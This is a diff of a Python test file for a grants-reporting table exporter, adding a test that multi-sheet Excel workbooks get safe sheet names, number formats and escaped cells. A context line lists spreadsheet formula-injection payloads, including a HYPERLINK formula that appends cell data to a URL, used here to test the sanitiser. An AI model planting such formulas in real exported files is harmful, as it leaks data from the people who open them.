@@ -10,7 +10,18 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from grants.reports.tables import AMOUNT, INTEGER, POINTS, Table, column_widths, to_csv, to_xlsx
+from grants.reports.tables import (
+    AMOUNT,
+    COUNT,
+    HOURS,
+    INTEGER,
+    POINTS,
+    Table,
+    column_widths,
+    to_csv,
+    to_workbook,
+    to_xlsx,
+)
 from grants.text import has_control_characters, spreadsheet_text, strip_control_characters
 
 PAYLOADS = ['=HYPERLINK("http://x"&B2,"y")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -73,3 +84,23 @@ def test_column_widths_fit_the_longest_cell_counting_cjk_twice():
     assert widths == [22, len("1,234,567.50") + 2]
     book = load_workbook(io.BytesIO(to_xlsx(table)))
     assert book.active.column_dimensions["A"].width == 22
+
+
+def test_a_workbook_has_one_sheet_per_table_each_with_the_same_safe_cells():
+    sheets = [
+        _table(),
+        Table("资金[二]", ["届次", "已支出（元）"], [["第一届", Decimal("12.50")]], formats={1: AMOUNT}),
+        Table("资金[二]", ["指标", "人次", "小时"], [["=1+1", 12345, Decimal("12.5")]], formats={1: COUNT, 2: HOURS}),
+    ]
+    book = load_workbook(io.BytesIO(to_workbook(sheets)))
+    assert book.sheetnames == ["'=名单_1_", "资金_二_", "资金_二__2"]  # valid, and unique
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes == "A2"
+        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    money, served = book.worksheets[1], book.worksheets[2]
+    assert money["B2"].value == Decimal("12.50") and money["B2"].number_format == AMOUNT
+    assert served["A2"].value == "'=1+1" and served["A2"].data_type == "s"
+    assert served["B2"].value == 12345 and served["B2"].number_format == COUNT
+    assert served["C2"].value == Decimal("12.5") and served["C2"].number_format == HOURS
+    assert book.worksheets[0]["C2"].number_format == AMOUNT and book.worksheets[0]["D2"].number_format == POINTS
+    assert money.column_dimensions["A"].width == len("第一届") * 2 + 2
